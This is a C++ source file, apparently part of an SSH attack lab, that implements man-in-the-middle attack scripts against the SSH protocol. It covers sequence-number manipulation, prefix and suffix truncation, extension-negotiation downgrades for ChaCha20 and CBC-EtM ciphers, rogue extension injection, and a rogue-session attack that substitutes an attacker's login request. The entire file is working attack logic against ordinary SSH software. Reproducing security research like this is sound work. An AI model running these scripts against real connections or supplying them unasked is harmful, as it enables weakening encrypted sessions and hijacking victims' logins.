#include "sshlab/attacks.hpp"

#include <stdexcept>

namespace sshlab::attacks
{

namespace
{

Direction toward(Role target)
{
	return target == Role::Client ? Direction::ServerToClient : Direction::ClientToServer;
}

Direction from(Role target)
{
	return target == Role::Client ? Direction::ClientToServer : Direction::ServerToClient;
}

std::size_t complement(std::size_t n, unsigned seq_bits)
{
	const std::uint64_t modulus = std::uint64_t(1) << seq_bits;
	if (n == 0 || n >= modulus)
		throw std::invalid_argument("technique offset must be in [1, 2^w)");
	return static_cast<std::size_t>(modulus - n);
}

Rule after_kexinit(Role target, Inject in, std::string label)
{
	in.toward = toward(target);
	in.before = false;
	return {std::move(label), {toward(target), Phase::PreNewKeys, msgid::kexinit, std::nullopt}, std::move(in)};
}

Rule delete_unimplemented_from(Role target)
{
	return {"drop Unimplemented replies", {from(target), Phase::PreNewKeys, msgid::unimplemented, std::nullopt},
		Delete{}, unlimited_hits};
}

Rule delete_channel_packet(Direction d, std::size_t index)
{
	return {"delete channel packet", {d, Phase::PostNewKeys, std::nullopt, index}, Delete{}};
}

std::string target_name(Role r)
{
	return to_string(r);
}

} // namespace

Message unknown_message()
{
	return RawMessage{unknown_id, {}};
}

Message large_ping(std::size_t payload)
{
	return Ping{Bytes(payload, 0x41)};
}

AttackScript passthrough()
{
	return {};
}

AttackScript rcv_increase(Role target, std::size_t n)
{
	AttackScript s{"rcv-increase(" + target_name(target) + "," + std::to_string(n) + ")", {}};
	if (n)
		s.rules.push_back(after_kexinit(target, Inject{{{Ignore{}, n}}}, "RcvIncrease"));
	return s;
}

AttackScript rcv_decrease(Role target, std::size_t n, unsigned seq_bits)
{
	AttackScript s{"rcv-decrease(" + target_name(target) + "," + std::to_string(n) + ")", {}};
	s.rules.push_back(after_kexinit(target, Inject{{{Ignore{}, complement(n, seq_bits)}}}, "RcvDecrease"));
	return s;
}

AttackScript snd_increase(Role target, std::size_t n, unsigned seq_bits)
{
	AttackScript s{"snd-increase(" + target_name(target) + "," + std::to_string(n) + ")", {}};
	s.rules.push_back(after_kexinit(
		target, Inject{{{unknown_message(), n}, {Ignore{}, complement(n, seq_bits)}}}, "SndIncrease"));
	s.rules.push_back(delete_unimplemented_from(target));
	return s;
}

AttackScript snd_decrease(Role target, std::size_t n, unsigned seq_bits)
{
	AttackScript s{"snd-decrease(" + target_name(target) + "," + std::to_string(n) + ")", {}};
	s.rules.push_back(after_kexinit(
		target, Inject{{{unknown_message(), complement(n, seq_bits)}, {Ignore{}, n}}}, "SndDecrease"));
	s.rules.push_back(delete_unimplemented_from(target));
	return s;
}

AttackScript prefix_truncate(std::size_t n_s, std::size_t n_c)
{
	AttackScript s{"prefix-truncate(" + std::to_string(n_s) + "," + std::to_string(n_c) + ")", {}};
	if (n_s)
		s.rules.push_back({"RcvIncrease client",
			{Direction::ServerToClient, Phase::PreNewKeys, msgid::newkeys, std::nullopt},
			Inject{{{Ignore{}, n_s}}, Direction::ServerToClient, true}});
	if (n_c)
		s.rules.push_back({"RcvIncrease server",
			{Direction::ClientToServer, Phase::PreNewKeys, msgid::newkeys, std::nullopt},
			Inject{{{Ignore{}, n_c}}, Direction::ClientToServer, true}});
	for (std::size_t i = 0; i < n_s; ++i)
		s.rules.push_back(delete_channel_packet(Direction::ServerToClient, i));
	for (std::size_t i = 0; i < n_c; ++i)
		s.rules.push_back(delete_channel_packet(Direction::ClientToServer, i));
	return s;
}

AttackScript extension_downgrade_chacha()
{
	auto s = prefix_truncate(1, 0);
	s.name = "ext-downgrade-chacha";
	return s;
}

AttackScript extension_downgrade_cbc_etm(bool use_ping)
{
	AttackScript s{use_ping ? "ext-downgrade-cbc-etm(ping)" : "ext-downgrade-cbc-etm(unknown)", {}};
	s.rules.push_back({"Unknown to client",
		{Direction::ServerToClient, Phase::PreNewKeys, msgid::kexdh_reply, std::nullopt},
		Inject{{{unknown_message(), 1}}, Direction::ServerToClient, true}});
	s.rules.push_back({"drop client's Unimplemented",
		{Direction::ClientToServer, Phase::PreNewKeys, msgid::unimplemented, std::nullopt}, Delete{}});
	s.rules.push_back({use_ping ? "Ping to server" : "Unknown to server",
		{Direction::ServerToClient, Phase::PreNewKeys, msgid::newkeys, std::nullopt},
		Inject{{{use_ping ? large_ping() : unknown_message(), 1}}, Direction::ClientToServer, false}});
	s.rules.push_back(delete_channel_packet(Direction::ServerToClient, 0));
	return s;
}

AttackScript rogue_extension(const ExtInfo& payload)
{
	AttackScript s{"rogue-extension", {}};
	s.rules.push_back({"ExtInfo to client",
		{Direction::ServerToClient, Phase::PreNewKeys, msgid::newkeys, std::nullopt},
		Inject{{{payload, 1}}, Direction::ServerToClient, true}});
	s.rules.push_back(delete_channel_packet(Direction::ServerToClient, 0));
	return s;
}

AttackScript rogue_session(const UserAuthRequest& attacker, int strategy, bool client_sends_ext_info)
{
	if (strategy != 1 && strategy != 2)
		throw std::invalid_argument("rogue session strategy must be 1 or 2");

	AttackScript s{"rogue-session(strategy " + std::to_string(strategy) + ")", {}};
	if (strategy == 2)
	{
		s.rules.push_back({"Unknown to client",
			{Direction::ServerToClient, Phase::PreNewKeys, msgid::kexdh_reply, std::nullopt},
			Inject{{{unknown_message(), 1}}, Direction::ServerToClient, true}});
		s.rules.push_back({"drop client's Unimplemented",
			{Direction::ClientToServer, Phase::PreNewKeys, msgid::unimplemented, std::nullopt}, Delete{}});
	}
	s.rules.push_back({"attacker UserAuthRequest to server",
		{Direction::ServerToClient, Phase::PreNewKeys, msgid::newkeys, std::nullopt},
		Inject{{{attacker, 1}}, Direction::ClientToServer, false}});

	if (strategy == 1)
		s.rules.push_back(delete_channel_packet(Direction::ClientToServer, 0));
	else
		s.rules.push_back(delete_channel_packet(Direction::ServerToClient, 0));

	// The client's own UserAuthRequest follows its ExtInfo (if any) and its ServiceRequest.
	const std::size_t client_request = client_sends_ext_info ? 2 : 1;
	// Server channel packets up to UserAuthSuccess: ExtInfo, ServiceAccept, UserAuthSuccess.
	s.rules.push_back({"hold client's UserAuthRequest",
		{Direction::ClientToServer, Phase::PostNewKeys, std::nullopt, client_request},
		Hold{Direction::ServerToClient, 3}});
	return s;
}

AttackScript suffix_truncate(std::size_t after)
{
	AttackScript s{"suffix-truncate(" + std::to_string(after) + ")", {}};
	s.rules.push_back({"cut", {Direction::ServerToClient, Phase::PostNewKeys, std::nullopt, after}, Cut{}});
	return s;
}

} // namespace sshlab::attacks
